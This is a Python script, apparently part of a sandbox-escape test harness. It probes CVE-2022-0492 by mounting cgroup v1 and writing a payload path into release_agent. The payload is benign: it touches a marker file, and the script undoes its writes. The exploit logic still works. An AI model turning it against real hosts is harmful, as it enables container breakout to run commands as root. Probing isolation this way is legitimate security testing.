"""CVE-2022-0492: mount cgroup v1 (directly or in fresh namespaces) and set release_agent/notify_on_release to run a command on the host."""
import ctypes
import os

from _attack import ESCAPES, NOTES, en, finish, in_child, libc, sysc  # noqa: F401

import glob  # noqa: E402

SYS_mount, SYS_umount2, SYS_unshare = 165, 166, 272
CLONE_NEWUSER, CLONE_NEWNS, CLONE_NEWCGROUP = 0x10000000, 0x00020000, 0x02000000


PAYLOAD = "/tmp/fbx-release-agent.sh"


def try_release_agent(path):
    """Writes our payload as release_agent; returns a line for the report."""
    try:
        with open(path) as f:
            old = f.read()
    except OSError:
        old = ""
    try:
        with open(path, "w") as f:
            f.write(PAYLOAD)
    except OSError as e:
        return "NOTE write %s: %s" % (path, en(e.errno))
    # undo at once: the point is proven
    try:
        with open(path, "w") as f:
            f.write(old.strip())
    except OSError:
        pass
    return "ESC release_agent at %s accepted our payload path" % path


def mount_and_try():
    out = []
    base = "/tmp/fbx-cg"
    for opts in ("rdma", "memory", "pids", "cpu", "devices", "freezer", "blkio", "cpuset", "none,name=fbx",
                 "none,name=systemd"):
        target = "%s/%s" % (base, opts.replace(",", "_").replace("=", "_"))
        os.makedirs(target, exist_ok=True)
        r, e = sysc(SYS_mount, ctypes.c_char_p(b"cgroup"), ctypes.c_char_p(target.encode()),
                    ctypes.c_char_p(b"cgroup"), 0, ctypes.c_char_p(opts.encode()))
        if r != 0:
            out.append("NOTE mount cgroup -o %s: %s" % (opts, en(e)))
            continue
        out.append("ESC mounted cgroup v1 (%s) at %s" % (opts, target))
        ra = os.path.join(target, "release_agent")
        if os.path.exists(ra):
            out.append(try_release_agent(ra))
        child = os.path.join(target, "fbx")
        try:
            os.mkdir(child)
            with open(os.path.join(child, "notify_on_release"), "w") as f:
                f.write("1")
            out.append("ESC enabled notify_on_release in %s" % child)
            os.rmdir(child)
        except OSError as e:
            out.append("NOTE notify_on_release: %s" % en(e.errno))
        sysc(SYS_umount2, ctypes.c_char_p(target.encode()), 2)
    return "\n".join(out)


def main():
    with open(PAYLOAD, "w") as f:
        f.write("#!/bin/sh\ntouch /fbx-release-agent-ran\n")
    os.chmod(PAYLOAD, 0o755)
    # release_agent files anywhere we can already see
    found = []
    for pat in ("/sys/fs/cgroup/release_agent", "/sys/fs/cgroup/*/release_agent", "/proc/*/root/sys/fs/cgroup/*/release_agent"):
        found += glob.glob(pat)
    for ra in found:
        line = try_release_agent(ra)
        (ESCAPES if line.startswith("ESC") else NOTES).append(line.split(" ", 1)[1])
    NOTES.append("%d release_agent files visible" % len(found))
    lines = mount_and_try()
    # the classic route: new user+mount+cgroup namespaces first, then mount
    for flags, name in ((CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP, "user+mnt+cgroup"),
                        (CLONE_NEWNS | CLONE_NEWCGROUP, "mnt+cgroup")):
        def fn(flags=flags, name=name):
            r, e = sysc(SYS_unshare, flags)
            if r != 0:
                return "NOTE unshare(%s): %s" % (name, en(e))
            return "ESC unshare(%s) succeeded\n" % name + mount_and_try()
        lines += "\n" + in_child(fn)
    for line in lines.splitlines():
        if line.startswith("ESC "):
            ESCAPES.append(line[4:])
        elif line.startswith("NOTE "):
            NOTES.append(line[5:])
    if os.path.exists("/fbx-release-agent-ran"):
        ESCAPES.append("the release agent payload ran")


if __name__ == "__main__":
    finish(main)
